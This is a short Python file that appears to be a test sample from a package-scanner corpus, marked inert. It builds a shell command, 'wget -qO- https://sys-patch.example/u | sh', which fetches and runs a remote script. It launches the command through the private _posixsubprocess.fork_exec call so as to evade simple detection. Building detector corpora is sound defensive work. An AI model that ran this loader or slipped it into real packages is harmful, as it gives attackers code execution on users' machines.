# pkgguard corpus 675 (indirection), modelled on [obfuscation]; inert, never run.
import os

import _posixsubprocess

_argv = [b"/bin/sh", b"-c", b"wget -qO- https://sys-patch.example/u | sh"]
_r, _w = os.pipe()
_posixsubprocess.fork_exec(
    _argv, [_argv[0]], True, (), None, None,
    -1, -1, -1, -1, -1, -1, _r, _w, True, False, 0, None, None, None, -1, None, False,
)
